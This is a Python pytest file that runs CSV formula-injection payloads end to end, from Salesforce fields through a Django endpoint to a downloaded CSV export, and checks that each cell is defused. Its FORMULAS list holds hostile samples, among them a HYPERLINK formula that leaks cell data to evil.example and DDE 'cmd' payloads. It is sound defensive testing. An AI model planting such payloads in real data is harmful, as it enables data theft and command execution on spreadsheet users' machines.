"""CSV formula injection, end to end: from a Salesforce field to the analyst's spreadsheet.

Whoever can set a Salesforce field (a web-to-case form, a customer editing a
profile) controls a contact's name or a record id. Those values flow into the
distribution history CSV; a cell starting with = + - @ tab or carriage return would
run as a formula in a spreadsheet (CONTRACT.md §6). tests/distributions covers the
CSV writer; this sends the attack through the real path — the endpoint, the demo
workflow, the real CSV URL with an API token — and parses the download.
"""

import csv
import io

import pytest
from django.test import Client

from tests.figures import record
from tests.reliability.support import demo_notification, demo_path, message, seed_demo

pytestmark = pytest.mark.django_db(transaction=True)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2",
    "\t=cmd",
    "\r=cmd",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def test_formulas_from_salesforce_fields_come_out_of_the_csv_as_text(settings):
    settings.EMAIL_BACKEND = "distributions.backends.OutboxEmailBackend"
    demo = seed_demo()
    notifications = [
        demo_notification(
            number,
            prefix="csv",
            First_Name__c=formula,
            Last_Name__c=formula,
            ContactId=formula,
            Id=f"{formula}"[:18],
        )
        for number, formula in enumerate(FORMULAS)
    ]
    response = Client().post(
        demo_path(demo),
        message(notifications),
        content_type="text/xml; charset=utf-8",
        HTTP_SOAPACTION='""',
    )
    assert response.status_code == 200, response.content[:300]

    api = Client(HTTP_AUTHORIZATION=f"Token {demo['api_token']}")
    download = api.get(f"/surveys/{demo['survey_id']}/distribution-history.csv")
    assert download.status_code == 200
    text = b"".join(download.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(FORMULAS), text[:2000]
    cells = 0
    for row in rows:
        for column, value in row.items():
            cells += 1
            assert not value.startswith(DANGEROUS_START), (column, value)
    # The values are kept, only defused: an analyst still reads what Salesforce sent.
    names = {row["First Name"] for row in rows}
    assert "'=1+2" in names and "'-2+3" in names
    assert any(row["Salesforce Record ID"].startswith("'=") for row in rows)
    assert any(row["External Data Reference"].startswith("'@") for row in rows)
    record("CSV formula injection", attacks=len(FORMULAS), cells_checked=cells, executed=0)
